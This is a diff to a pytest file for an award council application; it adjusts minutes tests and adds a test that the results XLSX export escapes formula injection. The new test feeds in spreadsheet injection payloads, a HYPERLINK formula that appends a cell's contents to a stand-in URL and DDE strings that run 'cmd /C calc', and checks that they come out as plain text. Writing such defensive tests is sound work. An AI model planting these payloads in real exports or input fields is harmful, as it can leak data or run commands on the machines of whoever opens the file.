@@ -6,6 +6,7 @@ from __future__ import annotations
 import io
 from collections.abc import Iterator
 from decimal import Decimal
+from typing import Any
 
 import pytest
 from flask import Flask
@@ -13,7 +14,7 @@ from flask_babel import force_locale
 from pypdf import PdfReader
 
 from recognition.auth.enums import Role
-from recognition.campaigns.enums import VoteBase, VoteMethod
+from recognition.campaigns.enums import NomineeKind, VoteBase, VoteMethod
 from recognition.council import services
 from recognition.council.enums import Choice, SessionKind
 from recognition.council.minutes import (
@@ -139,6 +140,7 @@ def test_the_minutes_view_holds_attendance_and_counts_per_item() -> None:
             method="Secret ballot",
             members=8,
             participants=7,
+            written=0,
             agree=6,
             disagree=1,
             abstain=0,
@@ -158,6 +160,7 @@ def test_the_minutes_view_holds_attendance_and_counts_per_item() -> None:
             method="Secret ballot",
             members=8,
             participants=7,
+            written=0,
             agree=5,
             disagree=1,
             abstain=1,
@@ -177,6 +180,7 @@ def test_the_minutes_view_holds_attendance_and_counts_per_item() -> None:
             method="Show of hands",
             members=8,
             participants=7,
+            written=0,
             agree=6,
             disagree=1,
             abstain=0,
@@ -273,7 +277,7 @@ def test_a_written_consultation_has_its_own_minutes() -> None:
         "Thành viên vắng mặt (1):",
     ):
         assert squeezed(expected) in squeezed(text), expected
-    assert "6/541080,0%(cần4/5)Đạt" in squeezed(text), text
+    assert "6/5(trongđó5bằngvănbản)41080,0%(cần4/5)Đạt" in squeezed(text), text
 
 
 def test_a_quorum_lost_to_a_declared_conflict_is_explained() -> None:
@@ -401,3 +405,58 @@ def test_minutes_and_results_exist_only_once_the_vote_is_closed(app: Flask) -> N
         f"attachment; filename=ket-qua-{session_id}.xlsx",
     )
     assert HELD_ON.year == 2025
+
+
+# --- formula injection (RELIABILITY.md, "Exports") ------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://x"&C4,"Bấm để xem")'
+
+
+def xlsx_cells(data: bytes) -> dict[str, tuple[str, Any]]:
+    """Every cell of the first sheet that holds something: coordinate → (data type, value)."""
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(io.BytesIO(data)).active
+    return {
+        cell.coordinate: (cell.data_type, cell.value)
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.value is not None
+    }
+
+
+def test_the_results_workbook_keeps_every_text_from_users_a_plain_string() -> None:
+    scene = build_scene()
+    seat_council(scene, size=3)
+    scene.body.name = "\r=2+2"
+    scene.commune_a.name = "\t=1+1"
+    formula_award = award_with(scene, code="F1", name="-2+3+cmd|' /C calc'!A0")
+    person_award = award_with(
+        scene, code="F2", name="+cmd|' /C calc'!A0", nominee_kind=NomineeKind.INDIVIDUAL
+    )
+    session = new_session(
+        scene,
+        [
+            accepted(scene, formula_award, nominee=new_hamlet(scene, HYPERLINK)),
+            accepted(scene, person_award, person_name="=1+1"),
+            accepted(scene, nominee=new_hamlet(scene, "Ấp Phú Hòa")),
+        ],
+    )
+    session.title = '@HYPERLINK("http://x")'
+    services.open_vote(session, actor=scene.secretariat)
+    for item in session.items:
+        vote_all(item, [A, A, A], roll(session))
+    services.close_vote(session, actor=scene.chair, chair_approved=True)
+
+    cells = xlsx_cells(results_workbook(session))
+
+    assert [name for name, (kind, _value) in cells.items() if kind == "f"] == []
+    assert (cells["A1"], cells["A2"]) == (
+        ("s", '\'@HYPERLINK("http://x")'),
+        ("s", "'\r=2+2"),
+    )
+    assert [tuple(cells[f"{column}{row}"] for column in "BCD") for row in (5, 6, 7)] == [
+        (("s", "Ấp Phú Hòa"), ("s", "Tập thể tiêu biểu"), ("s", "'\t=1+1")),
+        (("s", "'" + HYPERLINK), ("s", "'-2+3+cmd|' /C calc'!A0"), ("s", "'\t=1+1")),
+        (("s", "'=1+1"), ("s", "'+cmd|' /C calc'!A0"), ("s", "'\t=1+1")),
+    ]
